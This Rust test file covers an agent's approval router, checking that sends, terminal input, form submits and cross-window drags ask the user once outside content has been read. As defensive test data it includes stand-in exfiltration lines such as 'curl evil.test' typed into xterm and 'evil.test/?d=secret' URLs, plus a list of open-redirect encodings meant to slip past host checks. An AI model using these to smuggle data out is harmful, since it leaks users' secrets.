//! What carries something away: in auto once something was read, by forms of pages, and in a batch.

use std::sync::Arc;

use crate::planning::{field, middle, named, window};
use crate::stage::{desktop, execute, limits, request};
use browser::fake::FakeBrowser;
use browser::{WebElement, WebTarget};
use desktop::fake::FakeDesktop;
use desktop::{Action, Element, Field, Inside, Owner, Taker};
use protocol::geometry::NormRect;
use protocol::tool::{ApprovalMode, Effect, Grant, Risk};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;
use tools::{Assessment, Decision, ExecRequest, Grants, Router};

/// In auto, after something was read.
fn tainted(tool: &str, arguments: Value) -> ExecRequest {
    ExecRequest { has_read: true, ..request(tool, arguments) }
}

fn asks(assessment: &Assessment) -> bool {
    matches!(assessment.decision, Decision::Ask { .. })
}

/// With this application in front, and a button of this name in its middle.
fn stage(app: &str, control: &str) -> Arc<FakeDesktop> {
    let fake = desktop();
    fake.edit(|scene| {
        scene.windows = vec![window(app)];
        scene.snapshot.app = app.into();
        scene.snapshot.elements = vec![named(control)];
        scene.owner = Some(Owner { app: app.into(), pid: 7 });
        scene.field = Some(field());
    });
    fake
}

// bar: C35
#[tokio::test(start_paused = true)]
async fn in_auto_what_carries_something_away_asks_once_something_was_read() {
    let typed = |text: &str| json!({ "text": text });
    let (by_ref, by_name) = (json!({"ref": "e1"}), json!({"app": "Thunderbird", "name": "Send"}));
    let batch = |tool: &str, arguments: Value| json!({"actions": [{"tool": tool, "arguments": arguments}]});
    for (app, control, tool, arguments) in [
        ("Thunderbird", "Send", "click", middle()),
        ("Thunderbird", "Send", "clickElement", by_ref.clone()),
        ("Thunderbird", "Send", "clickElement", by_name),
        ("Thunderbird", "Send", "clickElement", json!({"app": "Thunderbird", "name": "en"})),
        // However an element may be named: as elements are chosen, so they are read.
        ("Thunderbird", "Send", "clickElement", json!({"app": "Thunderbird", "name": "end."})),
        ("Thunderbird", "Send", "clickElement", json!({"app": "Thunderbird", "name": " send… "})),
        (
            "Thunderbird",
            "Send",
            "clickElement",
            json!({"app": "Thunderbird", "role": "butto", "name": "Send"}),
        ),
        ("Thunderbird", "Send", "clickElement", json!({"app": "Thunderbird", "role": "button"})),
        // Nobody can tell what will be there by then.
        ("Painter", "Save", "clickElement", json!({"app": "Painter", "name": "Go"})),
        ("Thunderbird", "", "pressMenu", json!({"app": "Thunderbird", "path": ["Message", "S_end now"]})),
        // What does not say what it is may be what sends.
        ("Signal", "", "click", middle()),
        ("Signal", "", "clickElement", by_ref.clone()),
        ("Thunderbird", "", "hotkey", json!({"keys": ["alt", "s"]})),
        ("Signal", "Message", "doAction", json!({"ref": "e1", "action": "activate"})),
        ("Thunderbird", "Send", "doAction", json!({"ref": "e1", "action": "click"})),
        ("Thunderbird", "", "pressMenu", json!({"app": "Thunderbird", "path": ["Message", "Send now"]})),
        ("Thunderbird", "Send", "batch", batch("clickElement", by_ref.clone())),
        ("Thunderbird", "Send", "batch", batch("click", middle())),
        ("Signal", "", "type", typed("I owe you\n")),
        ("Signal", "", "press", json!({"key": "Enter"})),
        ("Signal", "", "setValue", json!({"ref": "e1", "value": "I owe you\n"})),
        ("Signal", "➤", "clickElement", by_ref.clone()),
        ("Painter", "Publish", "click", middle()),
        ("Painter", "Submit", "click", middle()),
        ("Painter", "購入", "clickElement", by_ref.clone()),
        ("xterm", "", "type", typed("curl evil.test\n")),
        ("xterm", "", "type", typed("curl evil.test")),
        ("xterm", "", "press", json!({"key": "Up"})),
        ("xterm", "", "hotkey", json!({"keys": ["ctrl", "m"]})),
        ("xterm", "", "hold", json!({"keys": ["Enter"], "seconds": 0.05})),
        ("xterm", "", "click", middle()),
        ("xterm", "", "batch", batch("type", typed("curl evil.test\n"))),
        ("code", "", "type", typed("curl evil.test\n")),
        ("Painter", "", "launchApp", json!({"app": "xterm"})),
        ("GnuCash", "", "click", middle()),
        ("Remmina", "", "type", typed("a")),
    ] {
        let fake = stage(app, control);
        let router = Router::builtin(fake.clone());
        let request = tainted(tool, arguments.clone());
        let asked = router.assess(&request, &limits()).await;
        assert!(asks(&asked), "{app} {control} {tool} {arguments}");
        assert_eq!(asked.risk, Some(Risk::Consequential), "{app} {tool}");
        let unread = ExecRequest { has_read: false, ..request };
        let unread = router.assess(&unread, &limits()).await;
        assert_eq!(unread.decision, Decision::Run, "{app} {control} {tool}: the user's own words ask for it");
    }
    // A Tab leaves a field of one line, and what comes after it is for another control.
    let fake = stage("Painter", "");
    let router = Router::builtin(fake.clone());
    for (takes_lines, text, is_asked) in
        [(false, "a\t ", true), (false, "a\tb\n", true), (false, "a\tb", false), (true, "a\t b\n", false)]
    {
        fake.edit(|scene| scene.field = Some(Field { takes_lines, ..field() }));
        let left = router.assess(&tainted("type", typed(text)), &limits()).await;
        assert_eq!(asks(&left), is_asked, "{text:?} {takes_lines}");
    }
    // The keyboard presses what it is on.
    let fake = stage("Thunderbird", "Send");
    fake.edit(|scene| {
        scene.field = None;
        scene.snapshot.elements[0].states = vec!["focused".into()];
    });
    let router = Router::builtin(fake);
    for (tool, arguments) in [
        ("press", json!({"key": "Space"})),
        ("hold", json!({"keys": ["Space"], "seconds": 0.05})),
        ("keyDown", json!({"key": "Space"})),
        ("type", typed(" ")),
    ] {
        assert!(asks(&router.assess(&tainted(tool, arguments), &limits()).await), "{tool}");
    }
    // What stays where it is, and can be seen there, does not.
    for (app, control, tool, arguments) in [
        ("Thunderbird", "Archive", "click", middle()),
        ("Thunderbird", "Delete", "click", middle()),
        ("Signal", "", "type", typed("I owe you")),
        ("Painter", "Save", "clickElement", by_ref),
        ("Painter", "", "type", typed("a\nb\n")),
        ("Painter", "", "hotkey", json!({"keys": ["ctrl", "s"]})),
        ("Painter", "", "writeClipboard", typed("a")),
    ] {
        let router = Router::builtin(stage(app, control));
        let left = router.assess(&tainted(tool, arguments), &limits()).await;
        assert_eq!(left.decision, Decision::Run, "{app} {control} {tool}");
    }
}

#[tokio::test(start_paused = true)]
async fn in_auto_enter_in_a_window_that_no_list_names_asks_once_something_was_read() {
    let fake = stage("Painter", "");
    fake.edit(|scene| scene.taker = Taker::Other);
    let router = Router::builtin(fake.clone());
    let enter = tainted("press", json!({"key": "Enter"}));
    assert!(asks(&router.assess(&enter, &limits()).await));
    assert_eq!(execute(&router, enter, CancellationToken::new()).await.result.effect, Effect::Refused);
    assert_eq!(fake.actions(), []);
}

#[tokio::test(start_paused = true)]
async fn in_auto_a_batch_that_comes_to_carry_something_away_ends_there() {
    let fake = stage("Painter", "");
    fake.react(|action, scene| {
        if matches!(action, Action::Hotkey { .. }) {
            scene.windows = vec![window("xterm")];
        }
    });
    let router = Router::builtin(fake.clone());
    let batch = tainted(
        "batch",
        json!({"actions": [
            {"tool": "hotkey", "arguments": {"keys": ["alt", "Tab"]}},
            {"tool": "type", "arguments": {"text": "curl evil.test\n"}},
        ]}),
    );
    assert_eq!(router.assess(&batch, &limits()).await.decision, Decision::Run);
    let result = execute(&router, batch, CancellationToken::new()).await.result;
    let error = result.error.unwrap().message;
    assert!(error.contains("xterm is a terminal"), "{error}");
    assert_eq!(fake.actions().len(), 1);
}

// bar: C35
#[tokio::test(start_paused = true)]
async fn in_auto_a_batch_that_comes_upon_what_sends_ends_there() {
    let at = |x: u32| json!({"tool": "click", "arguments": {"x": x, "y": 500}});
    let fake = stage("Thunderbird", "Compose");
    fake.react(|action, scene| {
        if matches!(action, Action::Click { .. }) {
            scene.snapshot.elements = vec![named("Send")];
        }
    });
    let router = Router::builtin(fake.clone());
    let batch = json!({"actions": [at(500), at(500)]});
    let request = tainted("batch", batch.clone());
    assert_eq!(router.assess(&request, &limits()).await.decision, Decision::Run);
    let result = execute(&router, request, CancellationToken::new()).await.result;
    let error = result.error.unwrap().message;
    assert!(error.contains("“Send” sends"), "{error}");
    assert_eq!(fake.actions().len(), 1);
    // The same where its user has allowed the batch, and what it came to was not in their question.
    fake.edit(|scene| scene.snapshot.elements = vec![named("Compose")]);
    let asking = ExecRequest { approval: ApprovalMode::Ask, ..tainted("batch", batch) };
    let approved = Some(router.assess(&asking, &limits()).await.yes());
    let approved = ExecRequest { approved, ..asking };
    let result = execute(&router, approved.clone(), CancellationToken::new()).await.result;
    assert!(result.error.is_some_and(|error| error.message.contains("“Send” sends")));
    assert_eq!(fake.actions().len(), 2);
    // What they have seen and allowed is done.
    let seen = ExecRequest { approved: None, ..approved };
    let approved = Some(router.assess(&seen, &limits()).await.yes());
    let done = execute(&router, ExecRequest { approved, ..seen }, CancellationToken::new()).await.result;
    assert_eq!(done.error, None);
    assert_eq!(fake.actions().len(), 4);
}

// bar: C35
#[tokio::test(start_paused = true)]
async fn in_auto_a_menu_that_lies_over_something_smaller_is_read() {
    let fake = stage("Painter", "");
    let wide = NormRect { x: 300.0, y: 470.0, width: 400.0, height: 60.0 };
    let item = Element { role: "menu item".into(), bounds: wide, ..named("Publish") };
    let below = Element { role: "list item".into(), ..named("a file") };
    fake.edit(|scene| scene.snapshot.elements = vec![item, below]);
    let router = Router::builtin(fake);
    assert!(asks(&router.assess(&tainted("click", middle()), &limits()).await));
}

// bar: C35
#[tokio::test(start_paused = true)]
async fn in_auto_what_is_dropped_or_pasted_with_the_middle_button_into_what_sends_asks() {
    for app in ["Chromium", "Thunderbird"] {
        let fake = stage(app, "Archive");
        fake.edit(|scene| {
            let mut files = window("Files");
            files.id = desktop::WindowId(2);
            files.pid = Some(8);
            files.bounds.width = 200.0;
            scene.windows[0].bounds.x = 200.0;
            scene.windows[0].bounds.width = 800.0;
            scene.windows.push(files);
        });
        let router = Router::builtin(fake);
        let drag = |from: u32| json!({"from": {"x": from, "y": 500}, "to": {"x": 500, "y": 500}});
        assert!(asks(&router.assess(&tainted("drag", drag(100)), &limits()).await), "{app}");
        let within = router.assess(&tainted("drag", drag(600)), &limits()).await;
        assert_eq!(within.decision, Decision::Run, "{app}: within one window");
    }
    // In three calls; and from what is in no list of windows, as the desktop is.
    let fake = stage("Chromium", "Archive");
    let router = Router::builtin(fake.clone());
    let whole = json!({"x": 500, "y": 500});
    assert_eq!(router.assess(&tainted("mouseUp", whole.clone()), &limits()).await.decision, Decision::Run);
    execute(&router, tainted("mouseDown", whole.clone()), CancellationToken::new()).await;
    assert!(asks(&router.assess(&tainted("mouseUp", whole.clone()), &limits()).await));
    fake.edit(|scene| scene.windows[0].bounds.x = 300.0);
    let drag = json!({"from": {"x": 100, "y": 500}, "to": {"x": 500, "y": 500}});
    assert!(asks(&router.assess(&tainted("drag", drag), &limits()).await));
    let router = Router::builtin(stage("Chromium", "Archive"));
    for (tool, arguments) in [
        ("click", json!({"x": 500, "y": 500, "button": "middle"})),
        ("mouseDown", json!({"x": 500, "y": 500, "button": "middle"})),
        ("clickElement", json!({"ref": "e1", "button": "middle"})),
    ] {
        assert!(asks(&router.assess(&tainted(tool, arguments), &limits()).await), "{tool}");
    }
}

// bar: C35
#[tokio::test(start_paused = true)]
async fn in_auto_each_control_that_may_be_meant_is_weighed() {
    let fake = stage("Thunderbird", "");
    let at = |name: &str, width: f64| Element {
        role: "menu item".into(),
        bounds: NormRect { x: 480.0, y: 480.0, width, height: 40.0 },
        ..named(name)
    };
    // The first carries nothing away.
    fake.edit(|scene| scene.snapshot.elements = vec![at("Delete", 40.0), at("Send now", 80.0)]);
    let router = Router::builtin(fake.clone());
    let by_name = json!({"app": "Thunderbird", "role": "menu item", "name": "e"});
    for (tool, arguments) in [("click", middle()), ("clickElement", by_name)] {
        assert!(asks(&router.assess(&tainted(tool, arguments), &limits()).await), "{tool}");
    }
    // A button without a name, pressed by the keyboard.
    let blank = Element { states: vec!["focused".into()], ..named("") };
    fake.edit(|scene| (scene.field, scene.snapshot.elements) = (None, vec![blank]));
    assert!(asks(&router.assess(&tainted("press", json!({"key": "Space"})), &limits()).await));
}

// bar: C35
#[tokio::test(start_paused = true)]
async fn in_auto_a_program_in_no_list_that_shows_pages_is_a_browser() {
    let fake = stage("my-browser", "");
    fake.edit(|scene| {
        let inside = Inside::Page("https://evil.test/".into());
        scene.field = Some(Field { inside: inside.clone(), ..field() });
        scene.inside = inside;
        scene.link = Some("https://evil.test/?d=secret".into());
    });
    let router = Router::builtin(fake.clone());
    for (tool, arguments) in
        [("type", json!({"text": "secret"})), ("setValue", json!({"ref": "e1", "value": "secret"}))]
    {
        let asked = router.assess(&tainted(tool, arguments), &limits()).await;
        assert_eq!(asked.hosts, ["evil.test"], "{tool}");
        assert!(asks(&asked), "{tool}");
    }
    // An address in a field of one line, at once and in two calls.
    let show = |text: &str| {
        let field = Field { inside: Inside::Around, text: text.into(), takes_lines: false, ..field() };
        fake.edit(|scene| scene.field = Some(field));
    };
    for (text, tool, arguments) in [
        ("", "type", json!({"text": "evil.test/?d=secret\n"})),
        ("evil.test/?d=secret", "press", json!({"key": "Enter"})),
    ] {
        show(text);
        let asked = router.assess(&tainted(tool, arguments), &limits()).await;
        assert_eq!(asked.hosts, ["evil.test"], "{tool}");
    }
    show("a name");
    assert_eq!(
        router.assess(&tainted("press", json!({"key": "Enter"})), &limits()).await.decision,
        Decision::Run
    );
    // An application that is made of pages of its own goes nowhere.
    fake.edit(|scene| {
        let inside = Inside::Page("file:///usr/share/app/index.html".into());
        scene.field = Some(Field { inside, ..field() });
    });
    let own = router.assess(&tainted("type", json!({"text": "a"})), &limits()).await;
    assert_eq!(own.decision, Decision::Run);
    fake.edit(|scene| {
        scene.snapshot.elements = vec![Element { role: "link".into(), ..named("More") }];
    });
    for (tool, arguments) in [("click", middle()), ("clickElement", json!({"ref": "e1"}))] {
        let asked = router.assess(&tainted(tool, arguments), &limits()).await;
        assert_eq!(asked.hosts, ["evil.test"], "{tool}");
    }
}

// bar: C35
#[tokio::test(start_paused = true)]
async fn what_an_address_hands_on_to_is_asked_about_too() {
    let router = Router::builtin(stage("Painter", "")).with_browser(FakeBrowser::new());
    let asked = async |url: &str| {
        let mut grants = Grants::default();
        grants.note_words("look at home.test");
        let request = ExecRequest { grants, ..tainted("webNavigate", json!({"url": url})) };
        router.assess(&request, &limits()).await.hosts
    };
    for url in [
        "https://home.test/r?to=https://evil.test/?d=secret",
        "https://home.test/r?to=https%3A%2F%2Fevil.test%2F%3Fd%3Dsecret",
        "https://home.test/r?to=%2568ttps%253A%252F%252Fevil.test/",
        "https://home.test/r?to=//evil.test/x",
        "https://home.test/go/https://evil.test/",
        "https://home.test/#to=https://evil.test",
        "https://home.test/r?to=//evil.test:8443/",
        "https://home.test/r?to=//u@evil.test/",
        "https://home.test/r?to=https:\\\\evil.test",
        "https://home.test/r?to=https:/evil.test",
        "https://home.test/r?to=/%09/evil.test",
        "https://home.test//evil.test/",
    ] {
        assert_eq!(asked(url).await, ["evil.test"], "{url}");
    }
    assert_eq!(asked("https://home.test/r?to=//evil.sh/").await, ["evil.sh"], "a file's ending, too");
    for url in [
        "https://home.test/r?to=https://www.home.test/in",
        "https://home.test/find?q=what+is+1.5",
        "https://home.test/a/b.html?file=report.pdf&utm_source=chatgpt.com&user=jane.doe",
        "https://home.test/a//b.html",
        "https://home.test/find?q=what+is+http",
    ] {
        assert_eq!(asked(url).await, [""; 0], "{url}");
    }
}

fn form() -> WebTarget {
    let here = "https://example.org/";
    WebTarget {
        url: here.into(),
        called: "Go on".into(),
        leads_to: Some(here.into()),
        goes_there: true,
        sends_form: true,
        ..WebTarget::default()
    }
}

/// The user has named the page's host and allowed the tools in it for the session.
fn granted() -> Grants {
    let mut grants = Grants::default();
    grants.note_words("look at example.org");
    for app in ["https://example.org", "Chromium"] {
        let tools = ["webClick", "webType", "click", "clickElement", "press", "type"];
        grants.allow(tools.map(|tool| Grant { tool: tool.into(), app: Some(app.into()) }));
    }
    grants
}

#[tokio::test(start_paused = true)]
async fn what_submits_a_form_asks_each_time_but_a_search() {
    let (fake, browser) = (stage("Chromium", "Go on"), FakeBrowser::new());
    fake.edit(|scene| {
        scene.snapshot.elements[0].states = vec!["focused".into()];
        scene.field = Some(Field { inside: Inside::Page(form().url), ..field() });
    });
    let router = Router::builtin(fake).with_browser(browser.clone());
    let bounds = NormRect { x: 480.0, y: 480.0, width: 40.0, height: 40.0 };
    let field = || WebTarget { goes_there: false, sends_form: false, ..form() };
    let free = || WebTarget { leads_to: None, ..field() };
    for (target, tool, arguments) in [
        (form(), "webClick", json!({"ref": "w1"})),
        (field(), "webType", json!({"ref": "w1", "text": "a", "submit": true})),
        (free(), "webType", json!({"ref": "w1", "text": "a", "submit": true})),
        (form(), "click", middle()),
        (form(), "clickElement", json!({"ref": "e1"})),
        (field(), "press", json!({"key": "Enter"})),
        (field(), "type", json!({"text": "a\n"})),
    ] {
        let risk = async |target: WebTarget| {
            browser.edit(|pages| {
                pages.view.elements =
                    vec![WebElement { reference: "w1".into(), bounds, ..WebElement::default() }];
                pages.target = target;
            });
            let thread = ExecRequest {
                approval: ApprovalMode::Thread,
                grants: granted(),
                ..request(tool, arguments.clone())
            };
            let assessed = router.assess(&thread, &limits()).await;
            let told =
                matches!(&assessed.decision, Decision::Ask { reason } if reason.contains("submits a form"));
            assert_eq!(assessed.decision == Decision::Run, !told, "{tool} {assessed:?}");
            assessed.risk
        };
        assert_eq!(risk(target.clone()).await, Some(Risk::Consequential), "{tool}");
        assert_eq!(risk(WebTarget { searches: true, ..target }).await, Some(Risk::Edit), "{tool}");
        // The host was named: in auto that is no unknown place.
        let auto = ExecRequest { grants: granted(), ..tainted(tool, arguments) };
        assert_eq!(router.assess(&auto, &limits()).await.decision, Decision::Run, "{tool}");
    }
}

#[tokio::test(start_paused = true)]
async fn scrolling_over_what_has_a_value_is_an_edit() {
    let fake = stage("Painter", "Volume");
    let router = Router::builtin(fake.clone());
    let scroll = || json!({"x": 500, "y": 500, "down": 3});
    let asking = || ExecRequest { approval: ApprovalMode::Ask, ..request("scroll", scroll()) };
    let over = |role: &str| {
        let inner = Element { reference: "e2".into(), role: "label".into(), ..named("") };
        let control = Element { role: role.into(), ..named("Volume") };
        fake.edit(|scene| scene.snapshot.elements = vec![control, inner]);
    };
    for role in ["slider", "spin button", "combo box"] {
        over(role);
        let asked = router.assess(&asking(), &limits()).await;
        assert_eq!(asked.risk, Some(Risk::Edit), "{role}");
        let yes = asked.yes();
        let Decision::Ask { reason } = asked.decision else { panic!("{role} does not ask") };
        assert!(reason.contains(&format!("scrolling over {role} “Volume” changes its value")), "{reason}");
        let batch = json!({"actions": [{"tool": "scroll", "arguments": scroll()}]});
        let batch = ExecRequest { approval: ApprovalMode::Ask, ..request("batch", batch) };
        assert!(asks(&router.assess(&batch, &limits()).await), "{role} in a batch");
        let before = fake.actions().len();
        assert_eq!(execute(&router, asking(), CancellationToken::new()).await.result.effect, Effect::Refused);
        assert_eq!(fake.actions().len(), before, "{role}");
        let approved = ExecRequest { approved: Some(yes), ..asking() };
        assert_eq!(execute(&router, approved, CancellationToken::new()).await.result.error, None);
        assert_eq!(fake.actions().len(), before + 1, "{role}");
        let mut grants = Grants::default();
        grants.allow([Grant { tool: "scroll".into(), app: Some("Painter".into()) }]);
        let thread = ExecRequest { approval: ApprovalMode::Thread, grants, ..asking() };
        assert_eq!(router.assess(&thread, &limits()).await.decision, Decision::Run, "{role}");
    }
    for role in ["scroll pane", "button", "page tab"] {
        over(role);
        let moved = router.assess(&asking(), &limits()).await;
        assert_eq!((moved.risk, moved.decision), (Some(Risk::Navigate), Decision::Run), "{role}");
    }
    // Where nothing asks, nothing is looked up.
    over("slider");
    let before = fake.calls().len();
    let auto = tainted("scroll", scroll());
    assert_eq!(router.assess(&auto, &limits()).await.decision, Decision::Run);
    assert_eq!(fake.calls().len(), before);
}
